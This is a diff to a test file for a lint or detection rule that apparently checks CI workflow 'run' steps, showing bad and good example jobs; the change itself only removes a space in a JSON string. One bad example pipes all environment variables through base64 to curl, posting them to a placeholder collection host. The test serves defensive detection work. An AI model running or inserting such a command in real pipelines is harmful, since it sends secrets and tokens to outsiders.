@@ -24,7 +24,7 @@ export default commandRule({
       oneJob('- run: |\n    «printenv | base64 | curl -d @- https://collect.example.com»'),
     ],
     good: [
-      oneJob('- run: curl -d "{\\"ref\\": \\"main\\"}" https://api.example.com'),
+      oneJob('- run: curl -d "{\\"ref\\":\\"main\\"}" https://api.example.com'),
       oneJob('- run: env | sort'),
       oneJob('- run: |\n    curl -H "Authorization: Bearer $TOKEN" https://api.example.com'),
     ],
